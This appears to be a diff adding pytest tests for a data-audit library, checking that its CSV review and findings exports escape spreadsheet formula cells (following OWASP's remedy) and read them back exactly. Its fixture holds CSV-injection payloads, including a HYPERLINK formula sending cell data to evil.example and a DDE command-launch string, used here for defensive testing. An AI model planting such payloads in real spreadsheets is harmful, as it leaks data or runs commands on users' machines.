@@ -1,0 +1,84 @@
+"""Gaps a real user hits: CSV cells a spreadsheet runs as formulas, boolean labels, a model
+named for an audit that trains none, column names that are numbers, two commands writing one
+output folder at once. Array audits and tiny datasets with checks that train no model: seconds."""
+
+from __future__ import annotations
+
+import csv
+
+import numpy as np
+import pandas as pd
+import pytest
+
+import datacheck
+from datacheck.reporting.csv import escape_formulas, write_findings_csv
+
+# --------------------------------------------------------------------------- CSV injection
+
+#: Sample ids a spreadsheet would run as formulas, and one that really starts with a quote.
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "'=not a formula"]
+
+
+@pytest.fixture
+def hostile_run(tmp_path):
+    """An array audit of 30 samples of the classes ``@home`` and ``work`` (columns in sorted
+    order), whose first five rows have hostile ids and labels the probabilities reject."""
+    n = 30
+    ids = HOSTILE_IDS + [f"s{i}" for i in range(len(HOSTILE_IDS), n)]
+    truth = np.arange(n) % 2
+    labels = truth.copy()
+    labels[: len(HOSTILE_IDS)] = 1 - truth[: len(HOSTILE_IDS)]
+    classes = np.array(["@home", "work"])
+    manifest = tmp_path / "manifest.csv"
+    pd.DataFrame({"sample_id": ids, "label": classes[labels]}).to_csv(manifest, index=False)
+    probs = np.full((n, 2), 0.05)
+    probs[np.arange(n), truth] = 0.95
+    np.save(tmp_path / "p.npy", probs)
+    run = datacheck.audit(manifest, pred_probs=tmp_path / "p.npy", out=tmp_path / "run")
+    flagged = set(run.issues("label_issues")["sample_id"])
+    assert flagged == set(HOSTILE_IDS)
+    return run.run_dir, dict(zip(ids, classes[truth]))
+
+
+def test_review_csv_escapes_formula_cells_and_reads_them_back_exactly(hostile_run, tmp_path):
+    """OWASP's remedy: a text cell starting with = + - @ (or a quote) is written with a leading
+    quote, so a spreadsheet shows it as text; --import-review removes it again, so each
+    decision lands on the sample it names and accepts the suggestion the file shows (before:
+    the ids were written raw, and Excel ran =HYPERLINK(...) when the reviewer opened the file)."""
+    run, truth = hostile_run
+    review = tmp_path / "review.csv"
+    datacheck.relabel(run, export_review=review)
+    with open(review, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == 5
+    by_id = {row["sample_id"]: row for row in rows}
+    assert set(by_id) == {"'" + i for i in HOSTILE_IDS}  # each escaped by one quote, "'=..." by a second
+    first = by_id["'" + HOSTILE_IDS[0]]
+    assert first["label"] == "work" and first["suggested_label"] == "'@home"  # a class name is escaped too
+    assert float(first["confidence"]) == pytest.approx(0.95)  # numbers stay numbers
+    for row in rows:
+        row["decision"] = "relabel"  # blank new_label: accept the suggestion the file shows
+    with open(review, "w", newline="", encoding="utf-8") as f:
+        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    changes = datacheck.relabel(run, import_review=review).changes.set_index("sample_id")
+    assert sorted(changes.index) == sorted(HOSTILE_IDS)
+    assert (changes["action"] == "relabel").all()
+    assert changes["new_label"].to_dict() == {i: truth[i] for i in HOSTILE_IDS}
+
+
+def test_findings_csv_escapes_text_cells_only(hostile_run, tmp_path):
+    run, _ = hostile_run
+    path = datacheck.report(run, out=tmp_path / "r.html", csv=True).csv
+    table = pd.read_csv(path, dtype=str, keep_default_na=False)
+    ids = set(table.loc[table["check"] == "label_issues", "sample_id"])
+    assert {"'" + i for i in HOSTILE_IDS} <= ids and "s5" in ids
+    # a numeric column keeps its minus sign; a text one gets the quote
+    frame = pd.DataFrame({"score": [-0.5, 0.25], "label": ["-1", "cat"], "is_issue": [True, False]})
+    assert escape_formulas(frame).to_dict("list") == {"score": [-0.5, 0.25], "label": ["'-1", "cat"],
+                                                      "is_issue": [True, False]}
+    findings = datacheck.load(run).findings.head(2).assign(score=[-0.5, 0.25])
+    written = pd.read_csv(write_findings_csv(findings, tmp_path / "f.csv"), dtype=str, keep_default_na=False)
+    assert written["score"].tolist() == ["-0.5", "0.25"]
